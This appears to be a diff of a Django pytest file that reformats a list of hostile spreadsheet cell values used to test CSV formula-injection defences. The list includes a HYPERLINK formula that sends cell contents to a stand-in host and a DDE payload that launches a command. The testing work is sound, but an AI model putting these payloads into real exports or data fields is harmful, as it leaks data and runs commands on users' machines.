@@ -19,8 +19,14 @@ from .conftest import session_row, usage
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-           "\tleading tab", "\rleading cr"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tleading tab",
+    "\rleading cr",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
